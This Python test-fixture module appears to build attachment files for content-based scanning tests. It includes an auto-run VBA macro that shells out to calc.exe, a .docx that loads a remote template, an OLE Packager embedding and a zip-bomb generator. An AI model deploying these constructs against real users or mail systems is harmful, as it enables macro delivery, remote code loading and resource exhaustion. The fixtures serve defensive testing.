"""Attachment payloads built in memory, for attachment-type tests.

Every builder returns the bytes of a small but structurally valid file of its kind, made with the
standard library only and the same on every call (fixed timestamps), so a test can judge a file by
its content rather than by its name or declared type.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import uuid
import zipfile
import zlib
from dataclasses import dataclass, field
from email import policy
from email.message import EmailMessage, MIMEPart
from email.utils import formatdate, make_msgid

__all__ = [
    "docm",
    "docx",
    "elf",
    "exe",
    "gif",
    "gzip_blob",
    "html_attachment",
    "javascript",
    "jpeg",
    "macho",
    "mime_with_attachments",
    "ole_doc",
    "pdf",
    "png",
    "pptx",
    "rar",
    "seven_zip",
    "shell_script",
    "svg",
    "tar_blob",
    "text",
    "xlsm",
    "xlsx",
    "zip_archive",
]

ORDER_ID = "112-1234567-1234567"
_ZIP_DATE = (1980, 1, 1, 0, 0, 0)
_MTIME = 1_735_689_600  # 2025-01-01T00:00:00Z


# --- documents and images ------------------------------------------------------------------


def pdf() -> bytes:
    """A one-page PDF 1.4 with one line of text and a correct cross-reference table."""
    content = f"BT /F1 18 Tf 72 720 Td (Invoice for order {ORDER_ID}) Tj ET".encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n" % (len(objects) + 1)
    out += b"0000000000 65535 f \n"
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(size: int = 8) -> bytes:
    """An RGB PNG of size x size pixels (a small gradient), 8 x 8 by default."""
    rows = bytearray()
    for y in range(size):
        rows.append(0)  # filter type: none
        for x in range(size):
            rows += bytes((x * 255 // max(size - 1, 1), y * 255 // max(size - 1, 1), 128))
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(bytes(rows), 9))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def jpeg() -> bytes:
    """A baseline JPEG/JFIF: 8 x 8 pixels, one grey component, one block of flat mid-grey.

    The Huffman tables hold one 1-bit code each (DC category 0, AC end-of-block), so the whole
    scan is the two bits ``00`` padded with ones.
    """
    jfif = b"JFIF\x00" + struct.pack(">BBBHHBB", 1, 1, 0, 1, 1, 0, 0)
    dqt = b"\x00" + bytes([1] * 64)  # 8-bit table 0, all ones
    sof0 = struct.pack(">BHHB", 8, 8, 8, 1) + bytes((1, 0x11, 0))  # 8x8, 1 comp, 1x1, table 0
    counts = bytes([1] + [0] * 15)  # one code of length 1
    dht_dc = b"\x00" + counts + b"\x00"  # class 0 (DC), id 0: symbol 0 (diff = 0)
    dht_ac = b"\x10" + counts + b"\x00"  # class 1 (AC), id 0: symbol 0x00 (EOB)
    sos = bytes((1, 1, 0x00, 0, 63, 0))  # 1 comp, comp 1 uses DC 0 / AC 0, Ss=0 Se=63 Ah/Al=0
    scan = b"\x3f"  # bits 0 (DC) 0 (EOB), padded with 1-bits
    return (
        b"\xff\xd8"
        + _jpeg_segment(0xE0, jfif)
        + _jpeg_segment(0xDB, dqt)
        + _jpeg_segment(0xC0, sof0)
        + _jpeg_segment(0xC4, dht_dc)
        + _jpeg_segment(0xC4, dht_ac)
        + _jpeg_segment(0xDA, sos)
        + scan
        + b"\xff\xd9"
    )


def gif() -> bytes:
    """A 1 x 1 GIF89a with a two-colour palette and a graphic control extension."""
    screen = struct.pack("<HHBBB", 1, 1, 0x80, 0, 0)  # global colour table of 2 entries
    palette = b"\xff\xff\xff\x00\x00\x00"
    control = b"\x21\xf9\x04\x01\x00\x00\x00\x00"  # transparent colour index 0
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    image = b"\x02\x02\x44\x01\x00"  # LZW min code size 2: clear, 0, end-of-information
    return b"GIF89a" + screen + palette + control + descriptor + image + b"\x3b"


def text() -> bytes:
    """Plain UTF-8 text with a few non-ASCII characters."""
    return (
        f"Packing list for order {ORDER_ID}\n"
        "1 x Café au lait mug, glazed (Grüße from the workshop)\n"
        "2 x Linen napkin, 45 cm by 45 cm\n"
        "Total: €42.50\n"
    ).encode()


# --- Office Open XML -----------------------------------------------------------------------

_CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_OOXML = "application/vnd.openxmlformats-officedocument"


def _content_types(overrides: dict[str, str], *, vba: bool = False) -> str:
    defaults = [
        ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
        ("xml", "application/xml"),
    ]
    if vba:
        defaults.append(("bin", "application/vnd.ms-office.vbaProject"))
    body = "".join(f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in defaults)
    body += "".join(
        f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in overrides.items()
    )
    return f'{_XML_DECL}<Types xmlns="{_CT_NS}">{body}</Types>'


def _rels(*targets: tuple[str, str]) -> str:
    """Relationships part; each target is (type URI, target path)."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets, start=1)
    )
    return f'{_XML_DECL}<Relationships xmlns="{_REL_NS}">{body}</Relationships>'


def _core_props(title: str) -> str:
    return (
        f"{_XML_DECL}<cp:coreProperties"
        ' xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:dcterms="http://purl.org/dc/terms/"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>{title}</dc:title>"  # no creator: one would be stripped (attachment_clean)
        '<dcterms:created xsi:type="dcterms:W3CDTF">2025-01-01T00:00:00Z</dcterms:created>'
        "</cp:coreProperties>"
    )


def _zip(parts: list[tuple[str, str | bytes]]) -> bytes:
    """A deflated zip of the parts, in the given order, with fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in parts:
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def _package_rels(main_type: str, main_part: str) -> str:
    return _rels(
        (main_type, main_part),
        (
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml",
        ),
    )


_CORE_CT = {"/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml"}

_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _word(*, macros: bool) -> bytes:
    return _zip(_word_parts(macros=macros))


def _word_parts(*, macros: bool) -> list[tuple[str, str | bytes]]:
    main_ct = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macros
        else f"{_OOXML}.wordprocessingml.document.main+xml"
    )
    document = (
        f'{_XML_DECL}<w:document xmlns:w="{_W_NS}"><w:body>'
        f"<w:p><w:r><w:t>Invoice for order {ORDER_ID}</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>Total: $24.99</w:t></w:r></w:p>"
        '<w:sectPr><w:pgSz w:w="12240" w:h="15840"/></w:sectPr>'
        "</w:body></w:document>"
    )
    parts: list[tuple[str, str | bytes]] = [
        (
            "[Content_Types].xml",
            _content_types({"/word/document.xml": main_ct, **_CORE_CT}, vba=macros),
        ),
        ("_rels/.rels", _package_rels(f"{_OFFICE_REL}/officeDocument", "word/document.xml")),
        ("word/document.xml", document),
        ("docProps/core.xml", _core_props("Invoice")),
    ]
    if macros:
        parts.append(("word/_rels/document.xml.rels", _rels((_VBA_REL, "vbaProject.bin"))))
        parts.append(("word/vbaProject.bin", _vba_project("ThisDocument")))
    return parts


def docx() -> bytes:
    """A minimal Word document (.docx)."""
    return _word(macros=False)


def docm() -> bytes:
    """A macro-enabled Word document (.docm) carrying word/vbaProject.bin."""
    return _word(macros=True)


_S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _excel(*, macros: bool) -> bytes:
    main_ct = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macros
        else f"{_OOXML}.spreadsheetml.sheet.main+xml"
    )
    workbook = (
        f'{_XML_DECL}<workbook xmlns="{_S_NS}" xmlns:r="{_OFFICE_REL}">'
        '<sheets><sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    sheet = (
        f'{_XML_DECL}<worksheet xmlns="{_S_NS}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Order</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>Price</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{ORDER_ID}</t></is></c>'
        '<c r="B2"><v>24.99</v></c></row>'
        "</sheetData></worksheet>"
    )
    book_rels: list[tuple[str, str]] = [(f"{_OFFICE_REL}/worksheet", "worksheets/sheet1.xml")]
    if macros:
        book_rels.append((_VBA_REL, "vbaProject.bin"))
    parts: list[tuple[str, str | bytes]] = [
        (
            "[Content_Types].xml",
            _content_types(
                {
                    "/xl/workbook.xml": main_ct,
                    "/xl/worksheets/sheet1.xml": f"{_OOXML}.spreadsheetml.worksheet+xml",
                    **_CORE_CT,
                },
                vba=macros,
            ),
        ),
        ("_rels/.rels", _package_rels(f"{_OFFICE_REL}/officeDocument", "xl/workbook.xml")),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", _rels(*book_rels)),
        ("xl/worksheets/sheet1.xml", sheet),
        ("docProps/core.xml", _core_props("Orders")),
    ]
    if macros:
        parts.append(("xl/vbaProject.bin", _vba_project("ThisWorkbook")))
    return _zip(parts)


def xlsx() -> bytes:
    """A minimal Excel workbook (.xlsx) with one sheet."""
    return _excel(macros=False)


def xlsm() -> bytes:
    """A macro-enabled Excel workbook (.xlsm) carrying xl/vbaProject.bin."""
    return _excel(macros=True)


_A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
_P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
_PML_NS = f'xmlns:a="{_A_NS}" xmlns:r="{_OFFICE_REL}" xmlns:p="{_P_NS}"'
_EMPTY_TREE = (
    '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
)


def _theme() -> str:
    colours = {
        "dk1": '<a:sysClr val="windowText" lastClr="000000"/>',
        "lt1": '<a:sysClr val="window" lastClr="FFFFFF"/>',
        "dk2": '<a:srgbClr val="44546A"/>',
        "lt2": '<a:srgbClr val="E7E6E6"/>',
        "accent1": '<a:srgbClr val="4472C4"/>',
        "accent2": '<a:srgbClr val="ED7D31"/>',
        "accent3": '<a:srgbClr val="A5A5A5"/>',
        "accent4": '<a:srgbClr val="FFC000"/>',
        "accent5": '<a:srgbClr val="5B9BD5"/>',
        "accent6": '<a:srgbClr val="70AD47"/>',
        "hlink": '<a:srgbClr val="0563C1"/>',
        "folHlink": '<a:srgbClr val="954F72"/>',
    }
    clr = "".join(f"<a:{name}>{value}</a:{name}>" for name, value in colours.items())
    font = '<a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/>'
    fill = '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'
    line = f'<a:ln w="6350">{fill}</a:ln>'
    return (
        f'{_XML_DECL}<a:theme xmlns:a="{_A_NS}" name="Office Theme"><a:themeElements>'
        f'<a:clrScheme name="Office">{clr}</a:clrScheme>'
        f'<a:fontScheme name="Office"><a:majorFont>{font}</a:majorFont>'
        f"<a:minorFont>{font}</a:minorFont></a:fontScheme>"
        f'<a:fmtScheme name="Office"><a:fillStyleLst>{fill * 3}</a:fillStyleLst>'
        f"<a:lnStyleLst>{line * 3}</a:lnStyleLst>"
        f"<a:effectStyleLst>{'<a:effectStyle><a:effectLst/></a:effectStyle>' * 3}"
        f"</a:effectStyleLst><a:bgFillStyleLst>{fill * 3}</a:bgFillStyleLst></a:fmtScheme>"
        "</a:themeElements></a:theme>"
    )


def pptx() -> bytes:
    """A minimal PowerPoint presentation (.pptx): one slide, its layout, master and theme."""
    pml = f"{_OOXML}.presentationml"
    presentation = (
        f"{_XML_DECL}<p:presentation {_PML_NS}>"
        '<p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>'
        '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
        '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
        "</p:presentation>"
    )
    textbox = (
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="TextBox 1"/><p:cNvSpPr txBox="1"/><p:nvPr/>'
        '</p:nvSpPr><p:spPr><a:xfrm><a:off x="914400" y="914400"/><a:ext cx="7315200"'
        ' cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
        '<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US"/>'
        f"<a:t>Order {ORDER_ID}</a:t></a:r></a:p></p:txBody></p:sp>"
    )
    slide = (
        f"{_XML_DECL}<p:sld {_PML_NS}><p:cSld><p:spTree>{_EMPTY_TREE}{textbox}</p:spTree>"
        "</p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"
    )
    layout = (
        f'{_XML_DECL}<p:sldLayout {_PML_NS} preserve="1"><p:cSld name="Blank"><p:spTree>'
        f"{_EMPTY_TREE}</p:spTree></p:cSld>"
        "<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>"
    )
    master = (
        f"{_XML_DECL}<p:sldMaster {_PML_NS}><p:cSld><p:spTree>{_EMPTY_TREE}</p:spTree></p:cSld>"
        '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2"'
        ' accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6"'
        ' hlink="hlink" folHlink="folHlink"/>'
        '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst>'
        "</p:sldMaster>"
    )
    parts: list[tuple[str, str | bytes]] = [
        (
            "[Content_Types].xml",
            _content_types(
                {
                    "/ppt/presentation.xml": f"{pml}.presentation.main+xml",
                    "/ppt/slides/slide1.xml": f"{pml}.slide+xml",
                    "/ppt/slideLayouts/slideLayout1.xml": f"{pml}.slideLayout+xml",
                    "/ppt/slideMasters/slideMaster1.xml": f"{pml}.slideMaster+xml",
                    "/ppt/theme/theme1.xml": f"{_OOXML}.theme+xml",
                    **_CORE_CT,
                }
            ),
        ),
        ("_rels/.rels", _package_rels(f"{_OFFICE_REL}/officeDocument", "ppt/presentation.xml")),
        ("ppt/presentation.xml", presentation),
        (
            "ppt/_rels/presentation.xml.rels",
            _rels(
                (f"{_OFFICE_REL}/slideMaster", "slideMasters/slideMaster1.xml"),
                (f"{_OFFICE_REL}/slide", "slides/slide1.xml"),
                (f"{_OFFICE_REL}/theme", "theme/theme1.xml"),
            ),
        ),
        ("ppt/slides/slide1.xml", slide),
        (
            "ppt/slides/_rels/slide1.xml.rels",
            _rels((f"{_OFFICE_REL}/slideLayout", "../slideLayouts/slideLayout1.xml")),
        ),
        ("ppt/slideLayouts/slideLayout1.xml", layout),
        (
            "ppt/slideLayouts/_rels/slideLayout1.xml.rels",
            _rels((f"{_OFFICE_REL}/slideMaster", "../slideMasters/slideMaster1.xml")),
        ),
        ("ppt/slideMasters/slideMaster1.xml", master),
        (
            "ppt/slideMasters/_rels/slideMaster1.xml.rels",
            _rels(
                (f"{_OFFICE_REL}/slideLayout", "../slideLayouts/slideLayout1.xml"),
                (f"{_OFFICE_REL}/theme", "../theme/theme1.xml"),
            ),
        ),
        ("ppt/theme/theme1.xml", _theme()),
        ("docProps/core.xml", _core_props("Order")),
    ]
    return _zip(parts)


# --- Office packages that reach outside themselves, carry programs, or unpack too far ------

REL_TYPES = {
    "attachedTemplate": f"{_OFFICE_REL}/attachedTemplate",
    "image": f"{_OFFICE_REL}/image",
    "hyperlink": f"{_OFFICE_REL}/hyperlink",
    "oleObject": f"{_OFFICE_REL}/oleObject",
    "package": f"{_OFFICE_REL}/package",
    "frame": f"{_OFFICE_REL}/frame",
}


def relationships(*rels: tuple[str, str, str | None]) -> str:
    """A relationships part: each (kind in REL_TYPES, target, TargetMode or None)."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{REL_TYPES[kind]}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for n, (kind, target, mode) in enumerate(rels, start=1)
    )
    return f'{_XML_DECL}<Relationships xmlns="{_REL_NS}">{body}</Relationships>'


def docx_with(*extra: tuple[str, str | bytes]) -> bytes:
    """The minimal .docx plus more parts; a part of the same name replaces the original."""
    names = {name for name, _ in extra}
    return _zip([p for p in _word_parts(macros=False) if p[0] not in names] + list(extra))


def repack(package: bytes, *extra: tuple[str, str | bytes]) -> bytes:
    """Any zip's members plus more; a part of the same name replaces the original."""
    names = {name for name, _ in extra}
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        kept: list[tuple[str, str | bytes]] = [
            (info.filename, source.read(info)) for info in source.infolist()
            if info.filename not in names]
    return _zip(kept + list(extra))


def attached_template_docx(target: str = "https://templates.example/invoice.dotm") -> bytes:
    """A .docx whose settings load a remote template when opened (the template-injection
    trick: the template may carry macros the .docx itself does not)."""
    settings = (f'{_XML_DECL}<w:settings xmlns:w="{_W_NS}" xmlns:r="{_OFFICE_REL}">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>')
    return docx_with(
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels",
         relationships(("attachedTemplate", target, "External"))),
    )


def ole_package(filename: str, data: bytes) -> bytes:
    """An OLE Packager object (word/embeddings/oleObject1.bin) wrapping a file, as Office
    stores a file dragged into a document: \x01Ole10Native holds its name, path and bytes."""
    name = filename.encode("latin-1")
    path = b"C:\\Users\\me\\Desktop\\" + name
    body = (struct.pack("<H", 2) + name + b"\0" + path + b"\0" + struct.pack("<HH", 0, 3)
            + struct.pack("<I", len(path) + 1) + path + b"\0"
            + struct.pack("<I", len(data)) + data)
    clsid = uuid.UUID("0003000c-0000-0000-c000-000000000046").bytes_le  # Package
    native = _Node("\x01Ole10Native", struct.pack("<I", len(body)) + body)
    return _compound_file(_Node("Root Entry", children=[native], clsid=clsid))


@dataclass
class RawEntry:
    """A zip member written as given: `packed` is its stored or compressed data, `size` and
    `crc` what the headers declare (a lying header declares something else)."""

    name: str
    packed: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED


def deflated(data: bytes) -> RawEntry:
    """A member (named later) whose headers tell the truth."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return RawEntry("", squeezer.compress(data) + squeezer.flush(), len(data), zlib.crc32(data))


def raw_zip(entries: list[RawEntry]) -> bytes:
    """A zip assembled header by header (zipfile cannot write a member's compressed bytes
    again, nor a header that lies)."""
    out = bytearray()
    central = bytearray()
    for entry in entries:
        name = entry.name.encode("utf-8")
        fields = struct.pack("<HHHHHIIIHH", 20, 0, entry.method, 0, 0x21, entry.crc,
                             len(entry.packed), entry.size, len(name), 0)
        central += (b"PK\x01\x02" + struct.pack("<H", 20) + fields
                    + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name)
        out += b"PK\x03\x04" + fields + name + entry.packed
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


def docx_bomb(copies: int, each: int) -> bytes:
    """A .docx with `copies` images that each unpack to `each` zero bytes: one deflated
    stream written `copies` times, so 2 GiB costs one 20 MB compression."""
    blob = deflated(bytes(each))
    entries = []
    for name, data in _word_parts(macros=False):
        raw = data.encode("utf-8") if isinstance(data, str) else data
        entries.append(RawEntry(**{**deflated(raw).__dict__, "name": name}))
    for n in range(copies):
        entries.append(RawEntry(f"word/media/image{n}.png", blob.packed, blob.size, blob.crc))
    return raw_zip(entries)


# --- OLE2 / Compound File Binary -----------------------------------------------------------

_SECTOR = 512
_MINI_SECTOR = 64
_MINI_CUTOFF = 4096
_FREESECT = 0xFFFFFFFF
_ENDOFCHAIN = 0xFFFFFFFE
_FATSECT = 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF
_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_WORD_CLSID = uuid.UUID("00020906-0000-0000-c000-000000000046").bytes_le


@dataclass
class _Node:
    """One directory entry of a compound file: a storage (children) or a stream (data)."""

    name: str
    data: bytes | None = None  # None for a storage
    children: list[_Node] = field(default_factory=list)
    clsid: bytes = bytes(16)
    # Filled in while laying the file out.
    index: int = 0
    left: int = _NOSTREAM
    right: int = _NOSTREAM
    child: int = _NOSTREAM
    black: bool = True
    start: int = _ENDOFCHAIN
    size: int = 0


def _cfb_key(node: _Node) -> tuple[int, str]:
    # [MS-CFB] 2.6.4: shorter names first, then by upper-cased name.
    return (len(node.name), node.name.upper())


def _red_black(nodes: list[_Node], depth: int, deepest: int) -> int:
    """Make a balanced tree of the sorted siblings; return the index of its root.

    Splitting at the middle fills every level but the deepest, so colouring the deepest level
    red (below the root) gives a valid red-black tree.
    """
    if not nodes:
        return _NOSTREAM
    mid = len(nodes) // 2
    node = nodes[mid]
    node.black = depth == 0 or depth < deepest
    node.left = _red_black(nodes[:mid], depth + 1, deepest)
    node.right = _red_black(nodes[mid + 1 :], depth + 1, deepest)
    return node.index


def _chain(fat: list[int], first: int, count: int) -> None:
    for n in range(first, first + count):
        fat[n] = n + 1 if n + 1 < first + count else _ENDOFCHAIN


def _compound_file(root: _Node) -> bytes:
    """Lay out a version-3 compound file (512-byte sectors) holding the tree under root."""
    entries: list[_Node] = []

    def number(node: _Node) -> None:
        node.index = len(entries)
        entries.append(node)
        for child in node.children:
            number(child)

    number(root)
    for node in entries:
        if node.children:
            siblings = sorted(node.children, key=_cfb_key)
            node.child = _red_black(siblings, 0, len(siblings).bit_length() - 1)

    # Streams under the cut-off live in the mini stream, the others in whole sectors.
    mini = bytearray()
    mini_fat: list[int] = []
    big: list[_Node] = []
    for node in entries[1:]:
        if node.data is None:
            node.start, node.size = 0, 0
        elif not node.data:
            node.start, node.size = _ENDOFCHAIN, 0
        elif len(node.data) < _MINI_CUTOFF:
            node.start, node.size = len(mini_fat), len(node.data)
            count = -(-len(node.data) // _MINI_SECTOR)
            mini_fat.extend([0] * count)
            _chain(mini_fat, node.start, count)
            mini += node.data.ljust(count * _MINI_SECTOR, b"\0")
        else:
            big.append(node)

    def sectors(n: int) -> int:
        return -(-n // _SECTOR)

    n_dir = sectors(len(entries) * 128)
    n_minifat = sectors(len(mini_fat) * 4)
    n_ministream = sectors(len(mini))
    n_big = sum(sectors(len(node.data or b"")) for node in big)
    n_fat = 1
    while n_fat * (_SECTOR // 4) < n_fat + n_dir + n_minifat + n_ministream + n_big:
        n_fat += 1

    fat = [_FREESECT] * (n_fat * (_SECTOR // 4))
    for n in range(n_fat):
        fat[n] = _FATSECT
    dir_start = n_fat
    _chain(fat, dir_start, n_dir)
    minifat_start = dir_start + n_dir
    _chain(fat, minifat_start, n_minifat)
    ministream_start = minifat_start + n_minifat
    _chain(fat, ministream_start, n_ministream)
    next_sector = ministream_start + n_ministream
    for node in big:
        count = sectors(len(node.data or b""))
        node.start, node.size = next_sector, len(node.data or b"")
        _chain(fat, next_sector, count)
        next_sector += count
    root.start = ministream_start if mini else _ENDOFCHAIN
    root.size = len(mini)

    header = bytearray(_OLE_MAGIC + bytes(16))
    header += struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack(
        "<IIIIIIIII",
        0,  # directory sectors (always 0 in version 3)
        n_fat,
        dir_start,
        0,  # transaction signature
        _MINI_CUTOFF,
        minifat_start if n_minifat else _ENDOFCHAIN,
        n_minifat,
        _ENDOFCHAIN,  # first DIFAT sector
        0,  # DIFAT sectors
    )
    difat = list(range(n_fat)) + [_FREESECT] * (109 - n_fat)
    header += struct.pack("<109I", *difat)

    directory = bytearray()
    for node in entries:
        encoded = (node.name + "\0").encode("utf-16-le")
        kind = 5 if node is root else (1 if node.data is None else 2)
        directory += encoded.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ",
            len(encoded),
            kind,
            1 if node.black else 0,
            node.left,
            node.right,
            node.child,
            node.clsid,
            0,  # state bits
            0,  # creation time
            0,  # modified time
            node.start,
            node.size,
        )
    while len(directory) % _SECTOR:  # unused entries
        directory += bytes(66) + struct.pack("<BBIII", 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM)
        directory += bytes(128 - 66 - 14)

    body = bytearray(struct.pack(f"<{len(fat)}I", *fat))
    body += directory
    minifat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat)
    body += minifat_bytes.ljust(n_minifat * _SECTOR, b"\xff")
    body += bytes(mini).ljust(n_ministream * _SECTOR, b"\0")
    for node in big:
        data = node.data or b""
        body += data.ljust(sectors(len(data)) * _SECTOR, b"\0")
    return bytes(header) + bytes(body)


def _word_document_stream() -> bytes:
    # Starts like a Word 97 FIB (wIdent 0xA5EC, nFib 0x00C1); big enough for regular sectors.
    fib = struct.pack("<HHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0)
    return (fib + f"Invoice for order {ORDER_ID}".encode("utf-16-le")).ljust(_MINI_CUTOFF, b"\0")


def _vba_storage(module: str) -> list[_Node]:
    """The streams of a VBA project: a VBA storage plus the PROJECT streams."""
    source = (
        f'Attribute VB_Name = "{module}"\r\n'
        "Sub AutoOpen()\r\n"
        '    Shell "cmd.exe /c calc.exe", vbHide\r\n'
        "End Sub\r\n"
    ).encode("ascii")
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
        f"Document={module}/&H00000000\r\n"
        'Name="Project"\r\n'
        'HelpContextID="0"\r\n'
        'VersionCompatible32="393222000"\r\n'
        'CMG="0000"\r\nDPB="0000"\r\nGC="0000"\r\n\r\n'
        "[Host Extender Info]\r\n&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000"
        "\r\n"
    ).encode("ascii")
    vba = _Node(
        "VBA",
        children=[
            _Node("_VBA_PROJECT", b"\xcc\x61\xff\xff\x00\x00\x00"),
            _Node("dir", b"\x01\x00\x00\x00\x00\x00\x00\x00"),
            _Node(module, source),
        ],
    )
    return [
        vba,
        _Node("PROJECT", project),
        _Node("PROJECTwm", module.encode("ascii") + b"\0" + module.encode("utf-16-le") + b"\0\0"),
    ]


def _vba_project(module: str) -> bytes:
    """A vbaProject.bin as found inside .docm/.xlsm packages (itself a compound file)."""
    return _compound_file(_Node("Root Entry", children=_vba_storage(module)))


def ole_doc(macros: bool = False) -> bytes:
    """A legacy Word 97-2003 .doc (OLE2 compound file), optionally with a VBA project.

    With macros the file holds Macros/VBA/_VBA_PROJECT (as Word stores it); without, only the
    WordDocument stream. The streams are synthetic, the container is a valid compound file.
    """
    children = [_Node("WordDocument", _word_document_stream())]
    if macros:
        children.append(_Node("Macros", children=_vba_storage("ThisDocument")))
    return _compound_file(_Node("Root Entry", children=children, clsid=_WORD_CLSID))


# --- executables ---------------------------------------------------------------------------


def exe() -> bytes:
    """A PE32+ (x86-64) Windows console executable: MZ stub, PE signature at e_lfanew."""
    pe_offset = 0x80
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", pe_offset))
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos = dos.ljust(pe_offset, b"\0")
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x0022)
    text_rva, file_align, section_align = 0x1000, 0x200, 0x1000
    optional = struct.pack(
        "<HBBIIIII",
        0x20B,  # PE32+
        14,
        0,
        file_align,  # size of code
        0,
        0,
        text_rva,  # entry point
        text_rva,  # base of code
    )
    optional += struct.pack(
        "<QIIHHHHHHIIIIHHQQQQII",
        0x140000000,  # image base
        section_align,
        file_align,
        6,
        0,
        0,
        0,
        6,
        0,
        0,  # win32 version
        text_rva + section_align,  # size of image
        file_align,  # size of headers
        0,  # checksum
        3,  # subsystem: console
        0x8160,  # DLL characteristics
        0x100000,
        0x1000,
        0x100000,
        0x1000,
        0,  # loader flags
        16,  # number of data directories
    )
    optional += bytes(16 * 8)
